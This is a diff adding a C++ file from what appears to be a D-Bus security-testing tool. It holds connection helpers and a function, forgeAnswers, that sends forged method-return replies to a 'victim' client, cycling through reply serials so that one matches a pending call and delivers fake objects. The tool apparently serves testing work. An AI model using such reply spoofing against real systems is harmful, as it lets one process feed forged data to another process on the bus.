@@ -1,0 +1,52 @@
+// SPDX-FileCopyrightText: 2026 The Ringlet Authors
+// SPDX-License-Identifier: BSD-3-Clause
+
+#include "peer.h"
+
+#include "finding.h"
+#include "objectreport.h"
+
+#include <climits>
+
+Peer::Peer(const std::string &address) : m_connection(dbus_connection_open_private(address.c_str(), nullptr))
+{
+    if (!m_connection || !dbus_bus_register(m_connection.get(), nullptr))
+        reportFinding("nobody can connect to the bus any more");
+    dbus_connection_set_exit_on_disconnect(m_connection.get(), FALSE);
+    // Otherwise it stops reading when there is much.
+    dbus_connection_set_max_received_size(m_connection.get(), LONG_MAX);
+}
+
+void Peer::send(Message message)
+{
+    if (!dbus_connection_get_is_connected(m_connection.get()))
+        return;
+    dbus_connection_send(m_connection.get(), message.get(), nullptr);
+    dbus_connection_flush(m_connection.get());
+}
+
+Message Peer::take()
+{
+    dbus_connection_read_write(m_connection.get(), 0);
+    return Message(dbus_connection_pop_message(m_connection.get()));
+}
+
+void Peer::own(const char *busName, bool owned)
+{
+    if (owned)
+        dbus_bus_request_name(m_connection.get(), busName, DBUS_NAME_FLAG_DO_NOT_QUEUE, nullptr);
+    else
+        dbus_bus_release_name(m_connection.get(), busName, nullptr);
+}
+
+void Peer::forgeAnswers(const char *victim, dbus_uint32_t last)
+{
+    for (dbus_uint32_t serial = 1; serial <= last; ++serial) {
+        Message reply(dbus_message_new(DBUS_MESSAGE_TYPE_METHOD_RETURN));
+        dbus_message_set_destination(reply.get(), victim);
+        dbus_message_set_reply_serial(reply.get(), serial);
+        dbus_message_set_no_reply(reply.get(), TRUE);
+        appendObjects(reply.get(), {{"/forged", {"zelkovar.Call.Call1"}, {{"Uri", std::string("forged")}}}});
+        send(std::move(reply));
+    }
+}
